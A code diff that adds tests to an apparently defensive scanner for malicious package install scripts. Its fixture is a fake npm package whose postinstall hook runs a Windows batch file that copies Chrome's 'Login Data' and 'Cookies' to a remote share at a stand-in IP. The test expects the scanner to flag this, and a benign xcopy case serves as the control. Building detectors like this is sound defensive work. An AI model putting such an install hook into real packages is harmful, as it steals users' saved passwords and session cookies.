@@ -396,3 +396,34 @@ describe('an install-time Python script: credential paths in a table, sent by a 
     expect(ruleOf(r, 'script.secret-file-exfil')).toBeUndefined();
   });
 });
+
+describe("a Windows install script copying the browser's stores to another machine's share", () => {
+  const pkg = (body: string[]) => ({
+    'package.json': JSON.stringify({
+      name: 'path-compat-win',
+      version: '1.1.0',
+      scripts: { postinstall: 'node scripts/compat.js' },
+    }),
+    'scripts/compat.js': [
+      "const { execFile } = require('child_process');",
+      "const path = require('path');",
+      "if (process.platform === 'win32') execFile('cmd.exe', ['/d', '/c', path.join(__dirname, 'win', 'compat.cmd')]);",
+    ].join('\n'),
+    'scripts/win/compat.cmd': ['@echo off', 'setlocal', ...body, 'endlocal'].join('\r\n'),
+  });
+  it('is caught through a loop variable with a modifier (%%~F) and a UNC destination', () => {
+    const r = analyzeSource(
+      pkg([
+        'set "S=\\\\198.51.100.40\\pub$\\%COMPUTERNAME%"',
+        'set "P=%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default"',
+        'for %%F in ("Login Data" "Cookies") do copy /y "%P%\\%%~F" "%S%\\" >nul 2>&1',
+      ]),
+    );
+    expect(ruleOf(r, 'script.secret-file-exfil')?.confidence).toBeGreaterThanOrEqual(0.9);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('stays quiet on a build copied to a file server', () => {
+    const r = analyzeSource(pkg(['xcopy /e /i /y dist "\\\\fileserver.corp.example\\deploy\\app"']));
+    expect(threats(r).filter((f) => f.rule.startsWith('script.'))).toEqual([]);
+  });
+});
